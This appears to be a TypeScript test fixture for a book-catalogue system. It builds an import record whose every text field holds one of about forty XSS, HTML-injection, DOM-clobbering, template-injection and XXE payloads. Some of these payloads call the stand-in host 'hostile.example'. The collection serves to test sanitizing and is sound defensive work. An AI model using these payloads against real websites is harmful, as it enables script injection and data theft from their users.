import { companies } from '@titlenet/catalogue/companies';
import type { FieldType } from '@titlenet/catalogue/field';
import { isOneOf } from '@titlenet/catalogue/is-one-of';
import type { SectionDefinition, SectionEntry } from '@titlenet/catalogue/sheet/section';
import { joinedSections, sections } from '@titlenet/catalogue/sheet/sections';
import { titleBarFields } from '@titlenet/catalogue/title-bar';

/** Host that hostile texts try to send requests to. */
export const hostileHost = 'hostile.example';

const run = "window.hostile('ran')";
const send = `//${hostileHost}/taken`;

/** Markup of attackers and broken feeds: each item would run a script, send a request or break the layout. */
export const hostileTexts: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt src="${send}"></sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror="${run}">`,
  `<img src="${send}">`,
  `<img/src=x/onerror=${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<image src=x onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>tap</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${run}"></style></mglyph></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<p title="--><img src=x onerror=${run}>">x</p><!-- --!><img src=x onerror="${run}">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="${send}">`,
  `<a href="javascript:${run}">plain</a>`,
  `<a href=" &#106;ava&#x09;script:${run}">entities</a>`,
  `<a href="data:text/html,<script>${run}</script>">data</a>`,
  `<a href="vbscript:${run}">vb</a>`,
  `<a href="https://${hostileHost}/" ping="${send}" target="_top">ping</a>`,
  `<body onload="${run}"><b onmouseover="${run}" onfocus="${run}" tabindex=1 autofocus>over</b>`,
  `<input autofocus onfocus="${run}"><select autofocus onfocus="${run}"></select><textarea>`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<video src=x onerror="${run}"><source onerror="${run}"></video><audio src="${send}" autoplay></audio>`,
  `<marquee onstart="${run}">x</marquee><keygen autofocus onfocus="${run}">`,
  `<div style="background:url(${send});position:fixed;inset:0;z-index:9999">over all</div>`,
  `<style>@import "${send}"; body{background:url(${send})}</style>`,
  `<link rel="stylesheet" href="${send}"><link rel="prefetch" href="${send}">`,
  `<meta http-equiv="refresh" content="0;url=https:${send}"><base href="https:${send}/">`,
  `<form action="https:${send}"><button formaction="javascript:${run}">Sign in</button></form>`,
  `<template><script>${run}</script></template><portal src="${send}"></portal>`,
  `<p id="root" name="hostile">clobber</p><img name="getElementById"><a id=documentElement>x</a>`,
  `</div></section></main><h1>Out of its place</h1><script>${run}</script>`,
  `\u2028<img src=x onerror=\u0060${run}\u0060><sc\u00adript>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;`,
  `\${${run}} {{constructor.constructor("${run}")()}} <%= ${run} %>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "https:${send}">]><x>&e;</x><![CDATA[<script>${run}</script>]]>`,
];

/**
 * All items in one text, starting at a different one for each field, because an unclosed item hides the following ones.
 */
function allAtOnce(field: string): string {
  const start = [...field].reduce((sum, letter) => sum + letter.charCodeAt(0), 0) % hostileTexts.length;
  return [...hostileTexts.slice(start), ...hostileTexts.slice(0, start)].join('\n');
}

const rich: readonly FieldType[] = ['html', 'htmls'];

/** A value with all hostile items, as far as the type of the field allows. */
function hostileValue(field: { name: string; type: FieldType }): unknown {
  if (field.name === 'url') return `javascript:${run}`;
  if (rich.includes(field.type)) return field.type === 'htmls' ? hostileTexts : allAtOnce(field.name);
  if (field.type === 'texts') return hostileTexts.slice(0, 6);
  if (field.type === 'text' || field.type === 'name') return hostileTexts[3];
  return undefined;
}

const given = (pairs: (readonly [string, unknown])[]) =>
  Object.fromEntries(pairs.filter(([, value]) => value !== undefined));

function hostileEntry(entry: SectionEntry): unknown {
  if (!('columns' in entry)) return entry.type === 'boolean' ? true : hostileValue(entry);
  // The house feed does not state who sent a price (G-500).
  const columns = entry.columns.filter(({ name }) => entry.name !== 'prices' || name !== 'sender');
  const row = columns.map((column) => {
    const needed = column.isRequired ? (column.type === 'integer' ? 1 : '1') : undefined;
    return [column.name, hostileValue(column) ?? needed] as const;
  });
  // Quotes get one item each.
  return entry.as === 'quotes' ? hostileTexts.map((quote) => ({ ...given(row), quote })) : [given(row)];
}

/** Sheet content of the house feed in which every text of every section is hostile. */
function hostileSections(): Record<string, Record<string, unknown>> {
  const all: readonly SectionDefinition[] = sections;
  const contents = all.map((section) => {
    const isJoined = isOneOf(joinedSections, section.name);
    const entries = section.entries.filter((entry) => !isJoined || !('columns' in entry));
    return [section.name, given(entries.map((entry) => [entry.name, hostileEntry(entry)]))] as const;
  });
  return Object.fromEntries(contents.filter(([, content]) => Object.keys(content).length > 0));
}

/** Values that make the fields of audio titles and Bibles visible. */
const shown = { isAudio: true, tap: 'ZN', tar: 'BI', reissueNo: 1 };
const isbns = [
  '9780306406157',
  '9780140328721',
  '9780131103627',
  '9780201633610',
  '9780262033848',
  '9780596517748',
  '9781491950296',
];

/** A title of each company with hostile texts in every field, for `titlenet import`. */
export const hostileTitles = companies.map(({ code }, index) => {
  const texts = titleBarFields
    .filter(({ name, group }) => group !== 'link' && !(name in shown) && name !== 'isbn')
    .map((field) => [field.name, hostileValue(field)] as const);
  const bar = { ...given(texts), ...shown, title: `Hostile ${code} ${hostileTexts[3]}` };
  return { kind: 'title', companyCode: code, isbn: isbns[index]!, bar, sheet: hostileSections() };
});
